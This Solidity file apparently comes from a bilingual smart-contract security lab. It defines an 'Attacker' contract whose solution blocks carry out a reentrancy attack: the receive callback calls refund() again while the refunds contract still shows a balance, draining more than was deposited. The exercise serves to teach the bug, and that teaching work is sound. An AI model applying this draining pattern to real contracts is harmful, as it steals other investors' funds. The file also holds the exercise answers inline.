// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

import {CallbackCash} from "./CallbackCash.sol";
import {ICashReceiver} from "./ICashReceiver.sol";
import {IRefunds} from "./IRefunds.sol";

/// @title Attacker
/// @notice An investor that is a contract. Mallory has paid in through it and now wants more than that back.
contract Attacker is ICashReceiver {
    /// @notice The money.
    CallbackCash public immutable CASH;
    /// @notice Where the money of all investors lies.
    IRefunds public immutable REFUNDS;

    /// @notice Nobody has written this part yet.
    error NotWrittenYet();

    constructor(CallbackCash cash, IRefunds refunds) {
        CASH = cash;
        REFUNDS = refunds;
        cash.callMe();
    }

    // #region attack
    /// @notice What Mallory calls, once.
    function attack() external {
        // lab:begin s3
        // lab:todo en: ask for the refund.
        // lab:todo zh: 申请退款。
        REFUNDS.refund();
        // lab:else
        //~ if (CASH.balanceOf(address(this)) == 0) revert NotWrittenYet();
        // lab:end
    }
    // #endregion

    // #region onCashReceived
    /// @inheritdoc ICashReceiver
    function onCashReceived(address, uint256 amount) external {
        // lab:begin s3
        // lab:todo en: money has just arrived; what do the books of the refunds still say?
        // lab:todo zh: 钱刚到账，此刻退款合约的账上还写着什么？
        if (CASH.balanceOf(address(REFUNDS)) >= amount) REFUNDS.refund();
        // lab:else
        //~ if (amount == 0) revert NotWrittenYet();
        // lab:end
    }
    // #endregion
}
